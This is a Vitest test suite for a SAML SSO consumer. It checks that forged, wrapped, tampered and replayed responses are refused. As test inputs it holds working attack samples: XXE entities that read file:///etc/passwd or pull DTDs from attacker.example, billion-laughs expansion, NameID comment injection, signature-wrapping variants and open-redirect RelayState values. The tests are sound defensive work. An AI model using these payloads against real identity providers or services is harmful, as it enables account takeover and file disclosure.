import { describe, expect, it } from 'vitest';
import { buildApp } from '../../app.js';
import { dbUnavailable, MINUTE, useTestApp } from '../../../test/helpers.js';
import {
  ATTACKER_KEYS,
  IDP_ENTITY_ID,
  IDP_KEYS,
  RSA_SHA1,
  SHA1,
  assertionXml,
  encode,
  idOf,
  newId,
  responseXml,
  sign,
  signatureVerifies,
  signedResponse,
  wrappingAttacks,
  type AssertionOptions,
} from '../../../test/saml-idp.js';
import { expectRefused, landing, postAcs, postRefused, startedSaml, writesNoAccount } from '../../../test/sso.js';

/**
 * Issue 11 point 4: responses an attacker builds from genuine ones (real signatures by the IdP's
 * key) or from nothing. Each is refused with 1002 on the landing page, one `sso.refused` audit
 * entry, and no user, identity, session or transfer token written (postRefused). The list of
 * refusals and their tests is in decision 0022, "Refused responses".
 */
describe.skipIf(dbUnavailable)('company SSO over SAML: forged, tampered and replayed responses', () => {
  const t = useTestApp();

  /** A signed assertion (by `keys`, with sign's options) in an unsigned response. */
  function signedAssertionIn(base: AssertionOptions, options: Parameters<typeof sign>[3] = {}, keys = IDP_KEYS): string {
    const assertion = assertionXml(base);
    return responseXml(base, sign(assertion, idOf(assertion, 'Assertion'), keys, options));
  }

  describe('signatures: the configured certificates, RSA with SHA-256 or better, over the assertion itself', () => {
    it('refuses a signature by another key whose KeyInfo carries the IdP’s own certificate', async () => {
      const { consumer, base } = await startedSaml(t);
      await postRefused(t, consumer, signedAssertionIn(base, { keyInfoCert: IDP_KEYS.cert }, ATTACKER_KEYS), '1002', 'Invalid signature');
    });

    it('refuses HMAC-SHA1 keyed with the IdP’s public certificate (key confusion)', async () => {
      const { consumer, base } = await startedSaml(t);
      await postRefused(t, consumer, signedAssertionIn(base, { hmacKey: IDP_KEYS.cert }), '1002', 'signature method');
    });

    it('refuses SHA-1 signatures and digests, though the IdP’s key made them', async () => {
      const { consumer, base } = await startedSaml(t);
      await postRefused(t, consumer, signedAssertionIn(base, { signatureAlgorithm: RSA_SHA1 }), '1002', 'signature method');
      await postRefused(t, consumer, signedAssertionIn({ ...base, assertionId: newId() }, { digestAlgorithm: SHA1 }), '1002', 'digest method');
    });

    it('refuses a reference to the whole document (URI="") instead of the assertion', async () => {
      const { consumer, base } = await startedSaml(t);
      await postRefused(t, consumer, signedAssertionIn(base, { referenceUri: '' }), '1002', 'does not reference its own parent');
    });

    it('refuses a genuine signed assertion inside a response signed by another key', async () => {
      const { consumer, base } = await startedSaml(t);
      const genuine = signedResponse(base);
      await postRefused(t, consumer, sign(genuine, idOf(genuine, 'Response'), ATTACKER_KEYS), '1002', 'Invalid document signature');
    });
  });

  describe('XML signature wrapping (XSW1–XSW8 and published variants)', () => {
    const names = Object.keys(
      wrappingAttacks(
        { acsUrl: 'https://sp.example/acs', audience: 'https://sp.example', nameId: 'n', email: 'n@corp.example', inResponseTo: '_r', now: 0 },
        { nameId: 'v', email: 'v@corp.example' },
      ),
    );
    it.each(names)('refuses %s', async (name) => {
      const { corp, consumer, base } = await startedSaml(t);
      const victim = { nameId: 'ceo', email: `ceo@${corp.domain}` };
      const xml = wrappingAttacks(base, victim)[name] ?? '';
      expect(xml).toContain(`>${victim.email}<`);
      await postRefused(t, consumer, xml, '1002');
      // A genuine answer to the same request still works: the refusal came from the wrapping.
      expect(landing(await postAcs(t, corp.urls.acs, signedResponse(base))).get('transferToken')).not.toBeNull();
    });
  });

  describe('XML the consumer never parses', () => {
    it('refuses a response of more than 1,000 elements, or nested deeper than 32, before its signature is checked, and at once', async () => {
      const { base, consumer } = await startedSaml(t);
      const genuine = signedResponse(base);
      const crowded = genuine.replace('</saml:AttributeStatement>', `${'<x/>'.repeat(8500)}</saml:AttributeStatement>`);
      expect(crowded).not.toBe(genuine);
      const started = performance.now();
      await postRefused(t, consumer, crowded, '1002', 'elements');
      expect(performance.now() - started).toBeLessThan(500);
      const deep = genuine.replace('</saml:AttributeStatement>', `${'<x>'.repeat(40)}${'</x>'.repeat(40)}</saml:AttributeStatement>`);
      await postRefused(t, consumer, deep, '1002', 'deeper than 32');
      // The genuine response, unchanged, still signs in.
      expect(landing(await postAcs(t, consumer.acs, genuine)).get('transferToken')).not.toBeNull();
    });

    it('refuses a comment put into a genuine NameID and email after signing, though the signature still verifies', async () => {
      // The attacker's own account at the IdP is `ceo@<corp>.attacker.example`; a comment makes a
      // reader that stops at the first text node see `ceo@<corp>`.
      const { corp, consumer, base } = await startedSaml(t);
      const own = `ceo@${corp.domain}.attacker.example`;
      const genuine = signedResponse({ ...base, nameId: own, email: own });
      const commented = genuine.replaceAll(`>ceo@${corp.domain}.attacker.example<`, `>ceo@${corp.domain}<!---->.attacker.example<`);
      expect(commented.split('<!---->').length).toBe(3);
      expect(signatureVerifies(commented, idOf(genuine, 'Assertion'))).toBe(true);
      await postRefused(t, consumer, commented, '1002', 'comment');
    });

    it('lands on 1002, audited, for a post the framework refuses: text, JSON of the wrong shape, no content type, multipart', async () => {
      const { consumer, base } = await startedSaml(t);
      const genuine = encode(signedResponse(base));
      const path = new URL(consumer.acs).pathname;
      const posts: Array<{ type?: string; payload: string }> = [
        { type: 'text/plain', payload: `SAMLResponse=${genuine}` },
        { type: 'application/json', payload: JSON.stringify({ SAMLResponse: [genuine] }) },
        { payload: `SAMLResponse=${genuine}` },
        { type: 'multipart/form-data; boundary=x', payload: '--x--' },
      ];
      for (const { type, payload } of posts) {
        const response = await writesNoAccount(t, () =>
          t.app.inject({ method: 'POST', url: path, payload, headers: type === undefined ? {} : { 'content-type': type } }),
        );
        await expectRefused(t, consumer.id, response, '1002', 'the framework refused');
      }
    });

    it('refuses a NameID holding a character reference to NUL or of white space only, on either database (never a 500)', async () => {
      for (const rawNameId of ['ceo&#0;x', ' &#32; ']) {
        const { consumer, base } = await startedSaml(t);
        await postRefused(t, consumer, signedResponse({ ...base, rawNameId }), '1002');
      }
    });

    it('refuses a DOCTYPE, internal or external entities, entity expansion, CDATA and processing instructions', async () => {
      const { corp, consumer, base } = await startedSaml(t);
      const signed = signedResponse(base);
      const body = signed.replace(/^<\?xml[^>]*\?>/, '');
      const variants = [
        `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${body.replace(`>${String(base.email)}<`, '>&x;<')}`,
        `<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/saml.dtd">${body}`,
        `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>${body}`,
        `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>${body}`,
        `<!DOCTYPE samlp:Response>${body}`,
      ];
      for (const xml of variants) await postRefused(t, consumer, xml, '1002', 'doctype');
      const cdata = signedResponse({ ...base, assertionId: newId(), rawNameId: `<![CDATA[ceo@${corp.domain}]]>` });
      await postRefused(t, consumer, cdata, '1002', 'CDATA section');
      await postRefused(
        t,
        consumer,
        `<?xml version="1.0"?><?xml-stylesheet href="http://attacker.example/x.xsl"?>${body}`,
        '1002',
        'processing instruction',
      );
    });

    it('refuses an EncryptedAssertion (no decryption key is configured), alone or beside a signed assertion', async () => {
      const { consumer, base } = await startedSaml(t);
      const encrypted =
        '<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"><xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>';
      await postRefused(t, consumer, responseXml(base, encrypted), '1002', 'encrypted assertion');
      const assertion = assertionXml(base);
      await postRefused(
        t,
        consumer,
        responseXml(base, sign(assertion, idOf(assertion, 'Assertion'), IDP_KEYS) + encrypted),
        '1002',
        'encrypted assertion',
      );
    });

    it('refuses no assertion, a status other than Success around a genuine assertion, and XML that is not a SAML Response', async () => {
      const { consumer, base } = await startedSaml(t);
      await postRefused(t, consumer, responseXml(base, ''), '1002', '0 assertions');
      await postRefused(t, consumer, signedResponse({ ...base, status: 'urn:oasis:names:tc:SAML:2.0:status:Requester' }), '1002', 'status');
      await postRefused(t, consumer, assertionXml(base), '1002', 'not a SAML Response');
      await postRefused(t, consumer, '<samlp:LogoutResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>', '1002', 'not a SAML Response');
    });

    it('refuses text that is not UTF-8 XML, and an oversized response (1002, audited) or body (413, never a 5xx)', async () => {
      const { consumer, base } = await startedSaml(t);
      const url = new URL(consumer.acs).pathname;
      const post = (payload: string, type = 'application/x-www-form-urlencoded') =>
        t.app.inject({ method: 'POST', url, payload, headers: { 'content-type': type } });
      const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(signedResponse(base), 'utf16le')]).toString('base64');
      await expectRefused(t, consumer.id, await writesNoAccount(t, () => post(`SAMLResponse=${encodeURIComponent(utf16)}`)), '1002', 'malformed');

      const large = signedResponse({ ...base, assertionId: newId(), givenName: 'A'.repeat(100 * 1024) });
      await postRefused(t, consumer, large, '1002', 'acceptable size');

      const huge = await post(`SAMLResponse=${'A'.repeat(300 * 1024)}`);
      expect(huge.statusCode).toBe(413);
      const wrongType = await post(JSON.stringify({ SAMLResponse: 12 }), 'application/json');
      await expectRefused(t, consumer.id, wrongType, '1002', 'the framework refused');
    });

    it('accepts a genuine response whose unsigned Response names no Destination (the signed Recipient does)', async () => {
      const { corp, base } = await startedSaml(t);
      expect(landing(await postAcs(t, corp.urls.acs, signedResponse({ ...base, destination: null }))).get('transferToken')).not.toBeNull();
    });

    it('accepts the base64 of a genuine response wrapped in lines, as some IdPs send it', async () => {
      const { corp, base } = await startedSaml(t);
      const wrapped = encode(signedResponse(base)).replace(/(.{76})/g, '$1\r\n');
      const response = await t.app.inject({
        method: 'POST',
        url: new URL(corp.urls.acs).pathname,
        payload: new URLSearchParams({ SAMLResponse: wrapped }).toString(),
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      });
      expect(landing(response).get('transferToken')).not.toBeNull();
    });
  });

  describe('what the signed assertion says', () => {
    it('refuses a missing AudienceRestriction, Recipient or confirmation NotOnOrAfter', async () => {
      const { consumer, base } = await startedSaml(t);
      await postRefused(t, consumer, signedResponse({ ...base, audience: null }), '1002', 'no AudienceRestriction');
      await postRefused(t, consumer, signedResponse({ ...base, recipient: null }), '1002', 'Recipient');
      await postRefused(t, consumer, signedResponse({ ...base, confirmationNotOnOrAfter: null }), '1002', 'NotOnOrAfter');
    });

    it('refuses an expired bearer confirmation inside valid conditions, and a time that is not a UTC instant', async () => {
      const { consumer, base } = await startedSaml(t);
      const now = t.clock.now();
      await postRefused(t, consumer, signedResponse({ ...base, confirmationNotOnOrAfter: now - 3 * MINUTE - 1000 }), '1002', 'confirmation has expired');
      const local = assertionXml({ ...base, assertionId: newId() }).replace(/NotOnOrAfter="([^"]+)Z"/g, 'NotOnOrAfter="$1+02:00"');
      await postRefused(t, consumer, responseXml(base, sign(local, idOf(local, 'Assertion'), IDP_KEYS)), '1002', 'not a UTC instant');
    });

    it('refuses a Response whose InResponseTo differs from the assertion’s, two response Issuers, and a Destination of another service', async () => {
      const { consumer, base, corp } = await startedSaml(t);
      await postRefused(
        t,
        consumer,
        signedResponse({ ...base, responseInResponseTo: newId() }),
        '1002',
        'InResponseTo of the response and the assertion differ',
      );
      const twoIssuers = signedResponse(base).replace('</saml:Issuer>', `</saml:Issuer><saml:Issuer>${IDP_ENTITY_ID}</saml:Issuer>`);
      await postRefused(t, consumer, twoIssuers, '1002', 'another issuer');
      await postRefused(t, consumer, signedResponse({ ...base, destination: corp.urls.acs.replace('/acs', '/other') }), '1002', 'Destination');
    });
  });

  describe('a genuine response sent to the wrong consumer', () => {
    it('refuses a response of the same IdP for another organisation’s connection', async () => {
      const mine = await startedSaml(t);
      const theirs = await startedSaml(t);
      // Same IdP, same key: only the audience, recipient and destination tell the two apart.
      await postRefused(t, mine.consumer, signedResponse(theirs.base), '1002', 'Destination');
      await postRefused(t, mine.consumer, signedResponse({ ...theirs.base, destination: null }), '1002', 'audience');
      expect(landing(await postAcs(t, theirs.corp.urls.acs, signedResponse(theirs.base))).get('transferToken')).not.toBeNull();
    });
  });

  describe('replay and unsolicited responses', () => {
    /** Another instance of the service on the same database (what a second server process is). */
    async function secondInstance() {
      return buildApp({ config: t.config, db: t.db, clock: t.clock, passwords: t.app.passwords });
    }
    const inject = (app: Awaited<ReturnType<typeof secondInstance>>, acs: string, xml: string) =>
      app.inject({
        method: 'POST',
        url: new URL(acs).pathname,
        payload: new URLSearchParams({ SAMLResponse: encode(xml) }).toString(),
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      });

    /** Both instances answer; exactly one signs in and the other is refused (audited, with this reason). */
    async function onceOnTwoInstances(consumer: { id: string; acs: string }, xml: string, reason: string): Promise<void> {
      const other = await secondInstance();
      try {
        const answers = await Promise.all([inject(t.app, consumer.acs, xml), inject(other, consumer.acs, xml)]);
        const accepted = answers.filter((answer) => landing(answer).get('transferToken') !== null);
        const refused = answers.filter((answer) => landing(answer).get('code') !== null);
        expect(accepted).toHaveLength(1);
        expect(refused).toHaveLength(1);
        for (const answer of refused) await expectRefused(t, consumer.id, answer, '1002', reason);
      } finally {
        await other.close();
      }
    }

    it('signs in once when the same response reaches two instances at the same time (request spent in the database)', async () => {
      const { consumer, base } = await startedSaml(t);
      await onceOnTwoInstances(consumer, signedResponse(base), 'InResponseTo names no waiting request');
      const request = await t.db.selectFrom('sso_requests').select('used_at').where('id', '=', String(base.inResponseTo)).executeTakeFirstOrThrow();
      expect(request.used_at).not.toBeNull();
      const identities = await t.db.selectFrom('external_identities').select('subject').where('subject', '=', base.nameId).execute();
      expect(identities).toHaveLength(1);
    });

    it('signs in once when the same unsolicited response reaches two instances at the same time (assertion ID kept in the database)', async () => {
      const { consumer, base } = await startedSaml(t, { allowUnsolicited: true });
      const assertionId = newId();
      const xml = signedResponse({ ...base, inResponseTo: null, assertionId });
      await onceOnTwoInstances(consumer, xml, 'replayed');
      const seen = await t.db.selectFrom('sso_assertions_seen').selectAll().where('assertion_id', '=', assertionId).execute();
      expect(seen).toMatchObject([{ connection_id: consumer.id }]);
      // Minutes later, on a third instance: still refused while the assertion is valid.
      t.clock.advance(4 * MINUTE);
      const third = await secondInstance();
      try {
        await expectRefused(t, consumer.id, await writesNoAccount(t, () => inject(third, consumer.acs, xml)), '1002', 'replayed');
      } finally {
        await third.close();
      }
    });

    it('follows the return address of the request, never a RelayState, for a solicited response', async () => {
      const { corp, base } = await startedSaml(t, { state: { returnUrl: '/home' } });
      const params = landing(await postAcs(t, corp.urls.acs, signedResponse(base), 'https://attacker.example/'));
      expect(params.get('transferToken')).not.toBeNull();
      expect(params.get('returnUrl')).toBe('/home');
    });

    it.each(['https://attacker.example/', '//attacker.example/x', '/\\attacker.example', 'javascript:alert(1)', `/${'a'.repeat(3000)}`])(
      'drops the RelayState %s of an accepted unsolicited response',
      async (relayState) => {
        const { corp, base } = await startedSaml(t, { allowUnsolicited: true });
        const params = landing(await postAcs(t, corp.urls.acs, signedResponse({ ...base, inResponseTo: null }), relayState));
        expect(params.get('transferToken')).not.toBeNull();
        expect(params.get('returnUrl')).toBeNull();
      },
    );
  });

  describe('a misconfigured connection (1005)', () => {
    it('lands on 1005, audited, when a stored certificate cannot be read', async () => {
      const { consumer, base } = await startedSaml(t);
      await t.db
        .updateTable('sso_connections')
        .set({ saml_idp_certs: JSON.stringify([IDP_KEYS.cert, '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n']) })
        .where('id', '=', consumer.id)
        .execute();
      await postRefused(t, consumer, signedResponse(base), '1005', 'readable certificates');
    });
  });
});
